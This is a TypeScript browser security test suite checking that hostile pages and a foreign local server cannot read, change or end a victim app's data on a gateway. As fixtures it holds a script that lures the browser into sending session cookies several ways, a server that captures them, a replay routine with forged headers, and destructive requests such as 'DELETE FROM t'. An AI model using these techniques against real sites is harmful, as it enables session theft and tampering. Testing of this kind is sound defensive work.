/**
 * What a hostile page can do with a browser that is signed in: from the origin of an app, of a draft, and of another server on
 * this machine, in every way in which a page makes a browser send a request (specification, "Origins").
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { BrowserContext, Page } from 'playwright-core';
import { appOf } from '../../testing/apps.ts';
import { root, startGateway, type TestGateway } from '../../testing/gateway.ts';
import { Origin } from '../../testing/origins.ts';
import { linkTo, OWN_FETCH } from '../../testing/pages.ts';
import { sharedChromium, withoutChromium } from './chromium.ts';

const PATIENCE_MS = 60_000;
/** How long a page waits for something that may never come. */
const WAIT_MS = 4000;

const HANDLERS = {
  queries: { count: "({ db }) => db.get('SELECT count(*) AS rows FROM t')" },
  actions: {
    add: {
      run: "async ({ db }) => { await db.run('INSERT INTO t DEFAULT VALUES'); return { body: {} }; }",
      writes: ['t'],
    },
  },
  migrations: ['CREATE TABLE t (id INTEGER PRIMARY KEY);'],
  files: {
    'index.html': '<!doctype html><title>App</title><p id="secret">secret</p><script src="app.js"></script>',
    'app.js': 'window.loaded = true;',
    'logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
    'sw.js': 'self.addEventListener("fetch", () => {});',
  },
};

/** A file of the victim, whose content somebody knows. */
const FILE = 'a file of the victim';

/** One attempt of a page: a foreign address, and the request that it makes the browser send. */
type Try = { url: string; method?: 'GET' | 'POST' | 'PUT' | 'DELETE'; body?: string };

/** Resolves when a frame has loaded: the page, or the browser's replacement. */
const EMBED = `(src) => new Promise((resolve) => {
  const frame = Object.assign(document.createElement('iframe'), { src });
  frame.addEventListener('load', resolve);
  document.body.append(frame);
}).then(() => {})`;
/** Makes the browser send its cookies to each address: what it loads, what it calls, a form, a window and a frame. */
const LURE = `(addresses) => Promise.all(addresses.map(async (address) => {
  const settled = (element) => new Promise((resolve) => {
    for (const type of ['load', 'error']) element.addEventListener(type, resolve);
    document.body.append(element);
  });
  await fetch(address + '/fetch', { credentials: 'include' }).catch(() => {});
  await settled(Object.assign(new Image(), { src: address + '/image' }));
  await settled(Object.assign(document.createElement('script'), { src: address + '/script' }));
  await settled(Object.assign(document.createElement('iframe'), { src: address + '/frame', name: address }));
  const form = Object.assign(document.createElement('form'), { action: address + '/form', method: 'post', target: address });
  document.body.append(form);
  form.submit();
  const opened = window.open(address + '/window');
  await new Promise((resolve) => setTimeout(resolve, 300));
  opened?.close();
})).then(() => {})`;
const inPage = (program: string, ...args: unknown[]) =>
  `(${program})(${args.map((arg) => JSON.stringify(arg)).join(', ')})`;
const ATTACK = readFileSync(join(root, 'test/browser/hostile-page.js'), 'utf8').replace(/;\s*$/, '');

describe('a hostile page', { skip: withoutChromium() }, () => {
  let gateway: TestGateway;
  let removeGateway: () => Promise<void>;
  let context: BrowserContext;
  let port: string;
  const origin = (labels: string) => `http://${labels === '' ? '' : `${labels}.`}svc.localhost:${port}`;

  before(async () => {
    const owner = {
      after: (remove: () => Promise<void>) => {
        removeGateway = remove;
      },
    };
    gateway = await startGateway(owner, { config: { appsStoreRoot: 'code-store' } });
    port = new URL(gateway.url).port;
    for (const id of ['hostile', 'victim', 'friend']) {
      const manifest = id === 'friend' ? { uses: ['victim'] } : {};
      const answer = await gateway.upload(id, appOf(id, { ...HANDLERS, manifest }));
      assert.equal(answer.status, 201, answer.text);
    }
    const stored = await gateway.call('PUT', '/svc/victim/_blobs', { body: FILE });
    assert.equal(stored.status, 201, stored.text);
    const session = await gateway.call('POST', '/svc/_sessions', { body: { sessionId: 's1' } });
    assert.equal(session.status, 201, session.text);
    context = await (await sharedChromium()).newContext();
    context.setDefaultTimeout(PATIENCE_MS);
    const page = await context.newPage();
    await page.goto(await linkTo(gateway));
    await page.locator('#content').waitFor();
    // The browser is signed in at every origin.
    for (const [path, host] of [
      ['/svc/hostile/', 'hostile'],
      ['/svc/victim/', 'victim'],
      ['/svc/friend/', 'friend'],
      ['/svc/_draft/s1/hostile/', 's1--hostile.draft'],
      ['/svc/_draft/s1/victim/', 's1--victim.draft'],
    ] as const) {
      await page.goto(`${origin('')}${path}`);
      await page.waitForURL(`${origin(host)}${path}`);
      await page.locator('#secret').waitFor();
    }
    await page.close();
  });
  after(async () => {
    await context?.close();
    await removeGateway?.();
  });

  const call = (app: string, member: 'query' | 'action', name: string) =>
    JSON.stringify({ app, [member]: name, input: {} });

  /** The requests that a page of `own` must not be able to make, at other origins and at its own. */
  function targets(own: string): Try[] {
    const bases = [own, origin(''), origin('victim'), origin('s1--victim.draft'), gateway.url].filter(Boolean);
    return bases.flatMap((base): Try[] => [
      { url: `${base}/svc/victim/` },
      { url: `${base}/svc/victim/_changes` },
      { url: `${base}/svc/_apps` },
      { url: `${base}/svc/_apps/victim/settings` },
      { url: `${base}/svc/_logs?app=victim` },
      { url: `${base}/svc/_runs` },
      { url: `${base}/svc/_tool/svc_read`, method: 'POST', body: call('victim', 'query', 'count') },
      { url: `${base}/svc/_tool/svc_write`, method: 'POST', body: call('victim', 'action', 'add') },
      { url: `${base}/svc/_draft/s1/_tool/svc_write`, method: 'POST', body: call('victim', 'action', 'add') },
      { url: `${base}/svc/_apps/victim/sql`, method: 'POST', body: '{"sql":"DELETE FROM t"}' },
      { url: `${base}/svc/_apps/victim/upload`, method: 'POST', body: 'x' },
      { url: `${base}/svc/_sessions/s1/publish`, method: 'POST', body: '{"app":"hostile"}' },
      { url: `${base}/svc/_backup`, method: 'POST', body: '{}' },
      { url: `${base}/svc/_tokens`, method: 'POST', body: '{"name":"mine","tools":"all"}' },
      { url: `${base}/svc/_session/links`, method: 'POST', body: '{}' },
      { url: `${base}/svc/_apps/victim?purge=1`, method: 'DELETE' },
      { url: `${base}/svc/_apps/victim/settings`, method: 'PUT', body: '{"stolen":true}' },
      { url: `${base}/svc/_sessions/s1/apps/victim/files/app.js`, method: 'PUT', body: 'stolen' },
      // It may end its own session.
      ...(base === own ? [] : [{ url: `${base}/svc/_session`, method: 'DELETE' } as const]),
    ]);
  }

  /** The state of the victim and of the gateway that a page could have changed. */
  async function state(): Promise<unknown> {
    const json = async (path: string) => (await gateway.call('GET', path)).json;
    const count = { app: 'victim', query: 'count' };
    return {
      apps: ((await json('/svc/_apps')) as { id: string; activeVersion: string }[]).map(({ id, activeVersion }) => [
        id,
        activeVersion,
      ]),
      rows: (await gateway.read('victim', 'count')).json.data,
      draftRows: (await gateway.call('POST', '/svc/_draft/s1/_tool/svc_read', { body: count })).json.data,
      settings: (await json('/svc/_apps/victim/settings')).settings,
      tokens: await json('/svc/_tokens'),
      file: (await gateway.call('GET', '/svc/_sessions/s1/apps/victim/files/app.js')).text,
      trash: (await json('/svc/_apps/hostile/versions')).length,
    };
  }

  /** Whether the browser is still signed in at the same origins. */
  async function isSignedIn(): Promise<unknown> {
    const page = await context.newPage();
    await page.goto(`${origin('')}/svc/victim/`);
    await page.locator('#secret').waitFor();
    const signedIn = await page.evaluate(
      `${OWN_FETCH}('/svc/_session').then((told) => told.json()).then((own) => own.signedIn)`,
    );
    await page.close();
    return signedIn;
  }

  async function attackFrom(page: Page, own: string): Promise<void> {
    const before = await state();
    const learned = (await page.evaluate(inPage(ATTACK, targets(own), WAIT_MS))) as string[];
    // Windows that it opened but can no longer close would occupy the browser's connections.
    for (const opened of context.pages()) if (opened !== page) await opened.close();
    const told = learned.filter((what) => !/"isError":true/.test(what));
    assert.deepEqual(told, [], 'data that the page could read');
    assert.deepEqual(await state(), before, 'state that the page could change');
    assert.equal(await isSignedIn(), true);
  }

  for (const [who, host, path] of [
    ['of an app', 'hostile', '/'],
    ['of a draft', 's1--hostile.draft', '/'],
  ] as const) {
    test(`${who} cannot read, change or end anything of others`, { timeout: 300_000 }, async () => {
      const page = await context.newPage();
      await page.goto(`${origin(host)}${path}`);
      await attackFrom(page, origin(host));
      await page.close();
    });
  }

  describe('of another server on this machine', () => {
    /** What it got of the browser: by the host that it was called, the cookies of the session. */
    const taken = new Map<string, Set<string>>();
    let server: Server;
    let there: (labels: string) => string;

    before(async () => {
      server = createServer(({ headers }, response) => {
        const [cookie] = /__Host-svc_session=[^;]+/.exec(headers.cookie ?? '') ?? [];
        const host = String(headers.host).replace(/:\d+$/, '');
        if (cookie !== undefined) taken.set(host, (taken.get(host) ?? new Set()).add(cookie));
        const allowed = {
          'access-control-allow-origin': headers.origin ?? '*',
          'access-control-allow-credentials': 'true',
        };
        response
          .writeHead(200, { 'content-type': 'text/html', ...allowed })
          .end('<!doctype html><title>Other</title><body>');
      });
      await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
      const { port: otherPort } = server.address() as AddressInfo;
      there = (labels) => `http://${labels === '' ? '' : `${labels}.`}svc.localhost:${otherPort}`;
    });
    after(() => {
      server.closeAllConnections();
      server.close();
    });

    for (const [where, labels] of [
      ['at a name of its own', 'other'],
      ["at the console's name", ''],
      ["at the name of an app's page", 'victim'],
    ] as const) {
      test(`${where} cannot either, although it has no policy`, { timeout: 300_000 }, async () => {
        const page = await context.newPage();
        await page.goto(there(labels));
        assert.equal(await page.evaluate('localStorage.length'), 0);
        await attackFrom(page, '');
        await page.close();
      });
    }

    test('gets the cookies of the browser, which are worth nothing', { timeout: 300_000 }, async () => {
      const hosts = ['', 'victim', 's1--victim.draft'];
      const page = await context.newPage();
      await page.goto(there('other'));
      // It makes the browser send them to the gateway's names at its own port, in each way that there is.
      await page.evaluate(inPage(LURE, hosts.map(there)));
      for (const opened of context.pages()) if (opened !== page) await opened.close();
      await page.close();
      const before = await state();
      for (const labels of hosts) {
        const { host, hostname } = new URL(origin(labels));
        const cookies = [...(taken.get(hostname) ?? [])];
        assert.ok(cookies.length > 0, `no cookie of ${host} reached the other server, and this test shows nothing`);
        for (const cookie of cookies) await replay(new Origin(gateway, host, cookie));
      }
      assert.deepEqual(await state(), before, 'state that a cookie could change');
      assert.equal(await isSignedIn(), true);
    });

    /** What somebody with a cookie would ask the gateway for: calls, streams, files, and the page key. */
    function wanted(): Try[] {
      const hash = createHash('sha256').update(FILE).digest('hex');
      const streams = ['/svc/victim/_live?query=count', '/svc/_logs?follow=1', '/svc/_runs/_events'];
      const paths = [...streams, '/svc/_draft/s1/victim/_changes', `/svc/victim/_blobs/${hash}`, `/_blobs/${hash}`];
      const base = origin('');
      const own = targets('').flatMap((one) =>
        one.url.startsWith(base) ? [{ ...one, url: one.url.slice(base.length) }] : [],
      );
      return [
        ...own,
        ...paths.map((url) => ({ url })),
        { url: '/svc/_draft/s1/_tool/svc_read', method: 'POST', body: call('victim', 'query', 'count') },
        { url: '/svc/_enter', method: 'POST', body: '{"to":"/svc/victim/"}' },
        { url: '/svc/_session', method: 'POST', body: '{}' },
      ];
    }

    /** What a cookie opens is the page; and it ends nothing but itself. */
    function isWorthless({ url, method }: Try, status: number): boolean {
      if (url === '/svc/victim/') return [200, 303, 403].includes(status);
      // Only at the origin of the app there is something at this address.
      if (url.startsWith('/_blobs/') && status === 404) return true;
      return method === 'DELETE' && url === '/svc/_session' ? status === 200 : [401, 403].includes(status);
    }

    /** Sends a cookie to the gateway as no browser would, with each header that could help. */
    async function replay(thief: Origin): Promise<void> {
      const own = { origin: `http://${thief.host}`, 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' };
      const navigation = { 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document', accept: 'text/html' };
      for (const one of wanted()) {
        const { url, method = 'GET', body } = one;
        for (const headers of method === 'GET' ? [own, navigation] : [own]) {
          const { status, text } = await thief.call(method, url, { headers, ...(body === undefined ? {} : { body }) });
          assert.ok(isWorthless(one, status), `${method} ${thief.host}${url}: ${status} ${text.slice(0, 200)}`);
        }
      }
    }
  });

  test('calls the tools of an app that its manifest names', async () => {
    const page = await context.newPage();
    await page.goto(`${origin('friend')}/`);
    const read = (app: string) =>
      page.evaluate(
        inPage(
          "(body) => svc.fetch('/svc/_tool/svc_read', { method: 'POST', body }).then((answer) => answer.status)",
          call(app, 'query', 'count'),
        ),
      );
    assert.deepEqual([await read('friend'), await read('victim'), await read('hostile')], [200, 200, 403]);
    await page.close();
  });

  test('registers no service worker', async () => {
    const page = await context.newPage();
    await page.goto(`${origin('hostile')}/`);
    const outcome = await page.evaluate(
      "navigator.serviceWorker.register('/sw.js').then(() => 'registered', (error) => error.name)",
    );
    assert.notEqual(outcome, 'registered');
    await page.close();
  });

  test('is embedded by the console and by itself, not by another app', async () => {
    const embeds = async (from: string, url: string) => {
      const page = await context.newPage();
      await page.goto(from);
      await page.evaluate(inPage(EMBED, url));
      const frame = page.frames().at(-1);
      const shown = await frame
        ?.locator('#secret')
        .count()
        .catch(() => 0);
      await page.close();
      return shown === 1;
    };
    assert.equal(await embeds(`${origin('victim')}/`, '/index.html'), true);
    assert.equal(await embeds(`${origin('hostile')}/`, `${origin('victim')}/`), false);
  });
});
